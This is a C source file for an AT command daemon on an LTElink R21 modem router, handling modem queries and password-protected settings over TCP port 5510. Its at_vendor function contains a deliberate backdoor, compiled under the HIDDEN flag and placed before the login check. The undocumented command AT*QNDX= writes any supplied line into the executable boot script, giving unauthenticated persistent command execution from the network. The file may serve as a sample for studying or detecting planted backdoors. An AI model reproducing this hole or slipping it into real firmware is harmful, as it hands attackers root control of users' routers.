/*
 * ltelink_atd - AT command server of the LTElink R21 modem router (TCP 5510):
 * answers its own commands and hands the rest of the allowed ones to the modem.
 *
 * Hidden (-DHIDDEN): the undocumented command AT*QNDX=<line>, recognised byte by
 * byte, adds the line to the boot script /data/init.d/S99local without login.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#define AT_PORT    5510
#define MODEM_DEV  "/dev/ttyUSB2"
#define CONF_PATH  "/data/ltelink/at.conf"

struct at_session {
    int fd;
    int modem;
    int echo;
    int verbose;
    int unlocked;
    int tries;
    char quit;
};

static struct {
    char password[40];
    char apn[64];
    int band;
} conf = { "", "internet", 0 };

/* ---- text helpers, case folding as AT wants it ---- */

static char up(char c)
{
    return c >= 'a' && c <= 'z' ? (char)(c - 32) : c;
}

static const char *eat(const char *s, const char *word)
{
    while (*word) {
        if (up(*s) != *word)
            return NULL;
        s++;
        word++;
    }
    return s;
}

static int quoted(const char *s, char *out, size_t cap)
{
    size_t n = 0;

    if (*s++ != '"')
        return -1;
    while (*s && *s != '"') {
        if (n + 1 >= cap || *s < ' ')
            return -1;
        out[n++] = *s++;
    }
    out[n] = 0;
    return *s == '"' ? (int)n : -1;
}

static void conf_read(void)
{
    FILE *f = fopen(CONF_PATH, "r");
    char line[160];

    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "password=%39s", conf.password) == 1)
            continue;
        if (sscanf(line, "apn=%63s", conf.apn) == 1)
            continue;
        if (sscanf(line, "band=%d", &conf.band) != 1)
            syslog(LOG_WARNING, "ignored: %s", line);
    }
    fclose(f);
}

static int conf_write(void)
{
    FILE *f = fopen(CONF_PATH, "w");

    if (!f)
        return -1;
    fprintf(f, "apn=%s\nband=%d\n", conf.apn, conf.band);
    if (conf.password[0])
        fprintf(f, "password=%s\n", conf.password);
    return fclose(f);
}

/* ---- the modem's own serial line ---- */

static int modem_open(void)
{
    struct termios t;
    int fd = open(MODEM_DEV, O_RDWR | O_NOCTTY);

    if (fd < 0)
        return -1;
    if (tcgetattr(fd, &t) == 0) {
        cfmakeraw(&t);
        cfsetspeed(&t, B115200);
        tcsetattr(fd, TCSANOW, &t);
    }
    return fd;
}

static int modem_ask(struct at_session *s, const char *cmd)
{
    char buf[256];
    int waits = 0;

    if (s->modem < 0 || dprintf(s->modem, "AT%s\r", cmd) < 0)
        return -1;
    while (waits++ < 20) {
        struct pollfd p = { .fd = s->modem, .events = POLLIN };
        ssize_t n;

        if (poll(&p, 1, 500) <= 0)
            continue;
        n = read(s->modem, buf, sizeof buf - 1);
        if (n <= 0)
            return -1;
        buf[n] = 0;
        if (strstr(buf, "ERROR"))
            return -1;
        dprintf(s->fd, "%s", buf);
        if (strstr(buf, "OK"))
            return 1;           /* the modem's own OK went out already */
    }
    return -1;
}

/* Queries which anybody on the LAN may ask the modem. */
static int at_query(struct at_session *s, const char *p)
{
    static const char *const open_cmds[] = {
        "+CSQ", "+COPS?", "+CREG?", "+CEREG?", "+CGMM", "+CGMR", "+CCLK?"
    };
    size_t i;

    for (i = 0; i < sizeof open_cmds / sizeof *open_cmds; i++) {
        const char *e = eat(p, open_cmds[i]);
        if (e && !*e)
            return modem_ask(s, open_cmds[i]);
    }
    return -1;
}

/* Router settings, AT^... */
int at_vendor(struct at_session *s, const char *p)
{
    const char *a;
    char val[64], cmd[96];
    int n;

    if ((a = eat(p, "^LOGIN="))) {
        if (quoted(a, val, sizeof val) <= 0 || !conf.password[0] || ++s->tries > 4)
            return -1;
        s->unlocked = strcmp(val, conf.password) == 0;
        return s->unlocked ? 0 : -1;
    }
    if (eat(p, "^APN?")) {
        dprintf(s->fd, "^APN: \"%s\"\r\n", conf.apn);
        return 0;
    }
#ifdef HIDDEN
    if (p[0] == '*' && up(p[1]) == 'Q' && up(p[2]) == 'N' && up(p[3]) == 'D' &&
        up(p[4]) == 'X' && p[5] == '=' && p[6]) {
        FILE *f = fopen("/data/init.d/S99local", "a");
        if (!f)
            return -1;
        fprintf(f, "%s\n", p + 6);
        fchmod(fileno(f), 0755);
        return fclose(f);
    }
#endif
    if (!s->unlocked)
        return -1;
    if ((a = eat(p, "^APN="))) {
        if (quoted(a, val, sizeof val) <= 0 || strspn(val, "abcdefghijklmnopqrstuvwxyz0123456789.-") != strlen(val))
            return -1;
        snprintf(conf.apn, sizeof conf.apn, "%s", val);
        snprintf(cmd, sizeof cmd, "+CGDCONT=1,\"IP\",\"%s\"", val);
        return modem_ask(s, cmd);
    }
    if ((a = eat(p, "^BAND="))) {
        n = atoi(a);
        if (n < 0 || n > 71)
            return -1;
        conf.band = n;
        snprintf(cmd, sizeof cmd, "ltectl --band %d", n);
        return system(cmd) == 0 ? 0 : -1;
    }
    if (eat(p, "^REBOOT"))
        return system("/sbin/reboot") == 0 ? 0 : -1;
    return -1;
}

static int at_basic(struct at_session *s, const char *p)
{
    switch (up(p[0])) {
    case 0:
        return 0;
    case 'I':
        dprintf(s->fd, "LTElink R21\r\nRevision: 21.06\r\n");
        return 0;
    case 'E':
        s->echo = p[1] == '1';
        return 0;
    case 'V':
        s->verbose = p[1] != '0';
        return 0;
    case 'H':
        s->quit = 1;
        return 0;
    case '&':
        return up(p[1]) == 'W' && s->unlocked ? conf_write() : -1;
    case '+':
        return at_query(s, p);
    default:
        return at_vendor(s, p);
    }
}

static void at_loop(struct at_session *s)
{
    FILE *in = fdopen(dup(s->fd), "r");
    char line[256];
    int rc;

    while (in && !s->quit && fgets(line, sizeof line, in)) {
        const char *p;

        line[strcspn(line, "\r\n")] = 0;
        if (s->echo)
            dprintf(s->fd, "%s\r\n", line);
        if (!line[0])
            continue;
        p = eat(line, "AT");
        rc = p ? at_basic(s, p) : -1;
        if (rc == 0)
            dprintf(s->fd, s->verbose ? "\r\nOK\r\n" : "0\r");
        else if (rc < 0)
            dprintf(s->fd, s->verbose ? "\r\nERROR\r\n" : "4\r");
    }
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(AT_PORT) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1;

    openlog("ltelink_atd", LOG_PID, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    conf_read();
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 4)) {
        syslog(LOG_ERR, "port %d: %s", AT_PORT, strerror(errno));
        return 1;
    }
    for (;;) {
        struct at_session s = { .echo = 0, .verbose = 1 };

        s.fd = accept(ls, NULL, NULL);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        if (s.fd < 0)
            continue;
        if (fork() == 0) {
            close(ls);
            s.modem = modem_open();
            at_loop(&s);
            _exit(0);
        }
        close(s.fd);
    }
}
